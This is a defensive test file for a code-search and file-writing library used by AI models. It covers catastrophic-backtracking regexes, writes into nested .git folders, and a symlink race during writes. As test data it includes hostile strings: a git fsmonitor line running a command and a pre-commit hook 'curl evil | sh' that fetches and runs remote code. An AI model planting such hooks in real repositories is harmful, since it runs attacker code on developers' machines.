// Faults a model can cause through its file tools (issue 17.3, issue 18 F12-F14):
// a pattern that would backtrack for minutes, a write into a nested
// repository's .git, and a folder swapped for a link while a write runs.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Codebase, CodebaseAccessError, codebaseTools, compileGlob } from '../../src/index.js';
import { tempDir } from '../helpers.js';

let dir: string | undefined;
afterEach(() => {
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
  dir = undefined;
});

/** Counts event-loop turns while `work` runs: a frozen loop counts none. */
async function ticksDuring<T>(work: () => Promise<T>): Promise<{ value: T; ticks: number }> {
  let ticks = 0;
  const timer = setInterval(() => (ticks += 1), 1);
  try {
    const value = await work();
    await new Promise((r) => setTimeout(r, 5));
    return { value, ticks };
  } finally {
    clearInterval(timer);
  }
}

describe('faults: patterns a model supplies', () => {
  it('a regex that backtracks exponentially in JavaScript ((a|a)*$ on a long line) is answered in linear time', async () => {
    dir = tempDir('patterns-');
    // 5,000 lines that nearly match: V8's engine needs 2^30 steps for one line of 30.
    fs.writeFileSync(path.join(dir, 'near-miss.txt'), `${'a'.repeat(30)}!\n`.repeat(5000));
    fs.writeFileSync(path.join(dir, 'hit.txt'), 'aaaa\n');
    const codebase = new Codebase(dir);
    const { value, ticks } = await ticksDuring(() => codebase.search('^(a|a)*$', { regex: true }));
    expect(value.matches).toEqual([{ path: 'hit.txt', line: 1, text: 'aaaa' }]);
    expect(value.filesSearched).toBe(2);
    expect(ticks).toBeGreaterThan(0);
    // Through the tool as a model calls it: an answer, not a stall.
    const search = codebaseTools(codebase).find((t) => t.name === 'search_code');
    const answer = await search?.execute({ pattern: '(a|a)*b', regex: true }, { signal: undefined, toolCallId: 'c1', messages: [] });
    expect(String(answer)).toMatch(/no match/i);
  });

  it('a glob that backtracks polynomially (*a*a*a*a*a*a*a*a*b) on a long name is answered in linear time', async () => {
    const glob = compileGlob('*a*a*a*a*a*a*a*a*a*a*b');
    const started = process.hrtime.bigint();
    expect(glob.matches(`src/${'a'.repeat(200)}`)).toBe(false);
    expect(glob.matches('src/aaaaaaaaaab')).toBe(true);
    // Not a timing test of speed: V8's engine takes minutes here; anything under 10 s proves the point.
    expect(Number(process.hrtime.bigint() - started) / 1e9).toBeLessThan(10);
  });

  it('lookaround and backreferences are refused with a message saying why', async () => {
    dir = tempDir('patterns-');
    fs.writeFileSync(path.join(dir, 'a.txt'), 'x\n');
    const codebase = new Codebase(dir);
    await expect(codebase.search('(?=x)x', { regex: true })).rejects.toThrow(/linear-time engine, RE2: no lookahead/);
    await expect(codebase.search('(a)\\1', { regex: true })).rejects.toThrow(/invalid regular expression/);
  });
});

describe('faults: .git at any depth', () => {
  it('refuses reads and writes inside a nested repository’s .git, a worktree’s .git file, and links to them', async () => {
    dir = tempDir('gitdepth-');
    const root = path.join(dir, 'repo');
    fs.mkdirSync(path.join(root, 'vendor', 'lib', '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(root, 'vendor', 'lib', '.git', 'config'), '[core]\n');
    fs.writeFileSync(path.join(root, '.git'), 'gitdir: /elsewhere/.git/worktrees/t1\n');
    fs.symlinkSync(path.join('vendor', 'lib', '.git'), path.join(root, 'innocent'));
    const codebase = new Codebase(root, { allowWrite: true });
    const refused = [
      codebase.write('vendor/lib/.git/config', '[core]\n\tfsmonitor = "touch /tmp/pwned"\n'),
      codebase.write('vendor/lib/.GIT/hooks/pre-commit', 'curl evil | sh'),
      codebase.write('innocent/config', 'x'),
      codebase.write('.git', 'gitdir: /tmp/elsewhere'),
      codebase.read('vendor/lib/.git/config'),
      codebase.read('innocent/config'),
      codebase.list('vendor/lib/.git'),
    ];
    for (const attempt of refused) {
      const error = await attempt.catch((e: unknown) => e);
      expect(error).toBeInstanceOf(CodebaseAccessError);
      expect((error as Error).message).toMatch(/inside a \.git folder/);
    }
    expect(fs.readFileSync(path.join(root, 'vendor', 'lib', '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(fs.readdirSync(path.join(root, 'vendor', 'lib', '.git', 'hooks'))).toEqual([]);
    expect(fs.readFileSync(path.join(root, '.git'), 'utf8')).toBe('gitdir: /elsewhere/.git/worktrees/t1\n');
    // A name that merely contains ".git" is an ordinary file.
    await expect(codebase.write('docs/.gitignore-notes.md', 'ok\n')).resolves.toMatchObject({ created: true });
  });
});

describe('faults: a folder swapped for a link while writes run', () => {
  it('creates nothing outside the root: no folders, no temp files; each write lands inside or is refused', async () => {
    dir = tempDir('swap-');
    const root = path.join(dir, 'root');
    const outside = path.join(dir, 'outside');
    fs.mkdirSync(path.join(root, 'sub'), { recursive: true });
    fs.mkdirSync(outside);
    // Another process flips root/sub between a real folder and a link to outside/, as fast as it can.
    const flipper = spawn(
      process.execPath,
      [
        '-e',
        `const fs = require('fs'); const [sub, real, out] = process.argv.slice(1);
         const spin = () => { for (let i = 0; i < 2000; i++); };
         for (;;) {
           try { fs.renameSync(sub, real); } catch {}
           try { fs.symlinkSync(out, sub); } catch {}
           spin();
           try { if (fs.lstatSync(sub).isSymbolicLink()) fs.unlinkSync(sub); } catch {}
           try { fs.renameSync(real, sub); } catch { fs.rmSync(real, { recursive: true, force: true }); }
           spin();
         }`,
        path.join(root, 'sub'),
        path.join(root, 'sub.real'),
        outside,
      ],
      { stdio: 'ignore' },
    );
    try {
      // Wait until the flipper runs (sub seen as a link once).
      for (let seen = false; !seen; ) {
        seen = fs.lstatSync(path.join(root, 'sub'), { throwIfNoEntry: false })?.isSymbolicLink() === true;
        if (!seen) await new Promise((r) => setTimeout(r, 1));
      }
      const codebase = new Codebase(root, { allowWrite: true });
      let written = 0;
      let refused = 0;
      for (let i = 0; i < 2000; i++) {
        try {
          await codebase.write(`sub/n${i % 7}/deep/f${i}.txt`, `write ${i}\n`);
          written += 1;
        } catch {
          refused += 1;
        }
      }
      expect(written + refused).toBe(2000);
      expect(refused).toBeGreaterThan(0);
    } finally {
      flipper.kill('SIGKILL');
      await new Promise((r) => flipper.once('exit', r));
    }
    expect(fs.readdirSync(outside)).toEqual([]);
  });
});
